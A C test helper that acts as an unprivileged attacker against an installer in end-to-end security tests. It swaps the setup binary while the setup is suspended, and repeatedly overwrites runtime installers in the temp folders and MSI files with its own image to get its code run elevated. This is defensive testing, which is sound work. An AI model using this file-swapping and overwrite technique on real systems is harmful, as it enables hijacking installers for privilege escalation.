/* Another program of the setup's user, not elevated, trying to get its own
 * code run by the setup (built with mingw at test time, run under Wine):
 *   attacker swap SETUP OTHER TIMEOUT_MS
 *            starts the command line in VESK_E2E_CMDLINE suspended, renames
 *            SETUP away and copies OTHER to its path, lets the setup run and
 *            prints SWAPPED=1 (or SWAP-FAILED=<error>), then EXIT=<code> as
 *            `probe run` does
 *   attacker write SECONDS STOPFILE FOLDER
 *            notes "STARTED", then for SECONDS or until STOPFILE exists, opens
 *            for writing every runtime installer (ZRP*.tmp\runtime.exe in the
 *            user's and the system's temporary folder: Wine keeps neither's
 *            access list from it)
 *            and every *.MSI in FOLDER and writes its own image over their
 *            start; appends
 *            "WROTE <path>" to the log for each write that got through and
 *            ends with "TRIED runtime=<n> msi=<n>", the opens attempted
 *   attacker ANYTHING ELSE
 *            its image run in place of what it overwrote: appends
 *            "RAN <command line>" to the log.
 * The log is C:\vesk-runtime\attacker.txt. */
#include <windows.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define LOG_PATH "C:\\vesk-runtime\\attacker.txt"

static void note(const char *text)
{
    FILE *log;
    CreateDirectoryA("C:\\vesk-runtime", NULL);
    log = fopen(LOG_PATH, "a");
    if (log) {
        fprintf(log, "%s\n", text);
        fclose(log);
    }
}

static int swap(const char *setup, const char *other, DWORD timeoutMs)
{
    static char commandLine[32768];
    char moved[MAX_PATH + 8];
    STARTUPINFOA startup;
    PROCESS_INFORMATION process;
    DWORD code = 0;
    if (!GetEnvironmentVariableA("VESK_E2E_CMDLINE", commandLine, sizeof commandLine)) {
        printf("START-FAILED=no VESK_E2E_CMDLINE\n");
        return 2;
    }
    ZeroMemory(&startup, sizeof startup);
    startup.cb = sizeof startup;
    if (!CreateProcessA(NULL, commandLine, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &startup, &process)) {
        printf("START-FAILED=%lu\n", GetLastError());
        return 2;
    }
    snprintf(moved, sizeof moved, "%s.old", setup);
    if (MoveFileA(setup, moved) && CopyFileA(other, setup, TRUE))
        printf("SWAPPED=1\n");
    else
        printf("SWAP-FAILED=%lu\n", GetLastError());
    fflush(stdout);
    ResumeThread(process.hThread);
    if (WaitForSingleObject(process.hProcess, timeoutMs) != WAIT_OBJECT_0) {
        TerminateProcess(process.hProcess, 1);
        printf("TIMEOUT\n");
        return 3;
    }
    GetExitCodeProcess(process.hProcess, &code);
    printf("EXIT=%lu\n", code);
    return 0;
}

/* Its own code over the start of path, as far as sharing lets it. */
static void overwrite(const char *path, const char *image, DWORD imageSize)
{
    DWORD written = 0;
    char text[MAX_PATH + 16];
    HANDLE file = CreateFileA(path, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL,
                              OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, NULL);
    if (file == INVALID_HANDLE_VALUE) return;
    if (WriteFile(file, image, imageSize, &written, NULL) && written) {
        snprintf(text, sizeof text, "WROTE %s", path);
        note(text);
    }
    CloseHandle(file);
}

/* Every file matching pattern (folder\pattern, or folder\pattern\leaf). */
static void overwrite_each(const char *folder, const char *pattern, const char *leaf, const char *image,
                           DWORD imageSize, unsigned long *tried)
{
    char search[MAX_PATH], path[MAX_PATH];
    WIN32_FIND_DATAA found;
    HANDLE find;
    snprintf(search, sizeof search, "%s\\%s", folder, pattern);
    find = FindFirstFileA(search, &found);
    if (find == INVALID_HANDLE_VALUE) return;
    do {
        if (leaf)
            snprintf(path, sizeof path, "%s\\%s\\%s", folder, found.cFileName, leaf);
        else
            snprintf(path, sizeof path, "%s\\%s", folder, found.cFileName);
        if (GetFileAttributesA(path) == INVALID_FILE_ATTRIBUTES) continue;
        ++*tried;
        overwrite(path, image, imageSize);
    } while (FindNextFileA(find, &found));
    FindClose(find);
}

static int write_loop(DWORD seconds, const char *stopFile, const char *folder)
{
    char self[MAX_PATH], temp[MAX_PATH], systemTemp[MAX_PATH], text[96];
    unsigned long runtimes = 0, databases = 0;
    static char image[1 << 20];
    DWORD imageSize = 0, end = GetTickCount() + seconds * 1000;
    HANDLE own;
    GetModuleFileNameA(NULL, self, sizeof self);
    own = CreateFileA(self, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (own == INVALID_HANDLE_VALUE || !ReadFile(own, image, sizeof image, &imageSize, NULL)) return 2;
    CloseHandle(own);
    note("STARTED");
    GetTempPathA(sizeof temp, temp);
    if (temp[0] && temp[strlen(temp) - 1] == '\\') temp[strlen(temp) - 1] = 0;
    GetSystemDirectoryA(systemTemp, sizeof systemTemp - 8);
    strcat(systemTemp, "\\..\\Temp");
    while ((LONG)(end - GetTickCount()) > 0 && GetFileAttributesA(stopFile) == INVALID_FILE_ATTRIBUTES) {
        overwrite_each(temp, "ZRP*", "runtime.exe", image, imageSize, &runtimes);
        overwrite_each(systemTemp, "ZRP*", "runtime.exe", image, imageSize, &runtimes);
        overwrite_each(folder, "*.MSI", NULL, image, imageSize, &databases);
        Sleep(1);
    }
    snprintf(text, sizeof text, "TRIED runtime=%lu msi=%lu", runtimes, databases);
    note(text);
    return 0;
}

int main(int argc, char **argv)
{
    char text[1024];
    if (argc == 5 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], strtoul(argv[4], NULL, 10));
    if (argc == 5 && strcmp(argv[1], "write") == 0) return write_loop(strtoul(argv[2], NULL, 10), argv[3], argv[4]);
    snprintf(text, sizeof text, "RAN %s", GetCommandLineA());
    note(text);
    return 0;
}
